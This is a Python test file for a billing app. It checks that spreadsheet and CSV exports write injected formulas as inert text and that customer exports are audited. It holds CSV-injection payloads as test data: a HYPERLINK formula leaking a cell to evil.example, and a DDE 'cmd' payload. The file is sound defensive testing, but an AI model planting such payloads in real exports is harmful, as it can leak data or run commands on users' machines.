"""Exports never hand a spreadsheet a formula (issue 8, safety of outputs): text that starts with = + - @ is
written as text in every CSV/XLSX the app produces — customer names, invoice lines, reconciliation notes — and a
customer export is audited (customer data leaving the system)."""
from datetime import date
from io import BytesIO

from openpyxl import load_workbook
from sqlmodel import select

from core.auth import SYSTEM
from core.billing.contracts import LineSpec
from core.importers.customers import export_customers
from core.invoicing.export import export_invoices_xlsx
from core.invoicing.service import generate_drafts
from core.models import AuditLog, Customer
from tests.db import factories as f

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def _cells(xlsx: bytes):
    wb = load_workbook(BytesIO(xlsx))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            yield from row


def _setup(session):
    f.seller(session)
    f.customer(session, "C1")
    cust = session.exec(select(Customer).where(Customer.external_id == "C1")).one()
    cust.name, cust.city = EVIL, "@SUM(1+1)"
    session.add(cust)
    f.contract(session, "C1", [LineSpec("+cmd|' /C calc'!A0", "flat_fee", {"amount": "100"})],
               start=date(2025, 1, 1))
    return generate_drafts(session, SYSTEM, period_start=date(2025, 1, 1), period_end=date(2025, 2, 1)).created


def test_no_export_carries_a_formula(session):
    ids = _setup(session)
    for xlsx in (export_invoices_xlsx(session, ids), export_customers(session, SYSTEM, "xlsx")):
        cells = list(_cells(xlsx))
        assert not [c.coordinate for c in cells if c.data_type == "f"]  # nothing Excel would run
        texts = [c.value for c in cells if isinstance(c.value, str)]
        assert f"'{EVIL}" in texts  # kept, readable, inert
    csv = export_customers(session, SYSTEM, "csv").decode("utf-8-sig")
    assert f"'{EVIL}".replace('"', '""') in csv and "'@SUM(1+1)" in csv
    logs = session.exec(select(AuditLog).where(AuditLog.action == "customer.export")).all()
    assert [(a.details["format"], a.details["customers"]) for a in logs] == [("xlsx", 1), ("csv", 1)]
